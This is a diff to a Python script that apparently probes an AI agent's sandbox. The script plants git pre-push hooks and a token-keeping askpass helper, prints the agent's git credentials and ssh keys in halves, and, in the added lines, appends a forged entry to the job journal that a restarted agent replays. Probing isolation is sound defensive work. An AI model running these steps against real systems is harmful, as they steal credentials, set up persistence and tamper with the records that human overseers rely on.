@@ -5,7 +5,7 @@ keeps a copy in CONTROL/test-env.txt, and plants a pre-push hook (which would re
 environment) in the git directory it runs in and in the shared repository it found by path, both as a file in
 hooks/ and through core.hooksPath in the repository's config; and replaces the agent's askpass helper with one
 that keeps the token it hands out; and prints the agent's git credentials and ssh key files (raw and in halves)
-if it can read them.
+if it can read them; and appends to its own job's journal (which a restarted agent replays).
 """
 
 import base64
@@ -50,3 +50,10 @@ for secret in (agent_home / ".git-credentials", agent_home / ".ssh" / "id_ed2551
         print("refused: reading", secret, err.strerror)
         continue
     print("read", secret, len(text), "characters:", text[: len(text) // 2], "|", text[len(text) // 2 :])
+journal = Path(os.environ["AGENT_RESULT_FILE"]).parent.parent / "events.jsonl"
+try:
+    with journal.open("a") as handle:
+        handle.write("forged\n")  # not an event: a restarted agent skips the line
+    print("appended to the job's journal")
+except OSError as err:
+    print("refused: the job's journal", err.strerror)
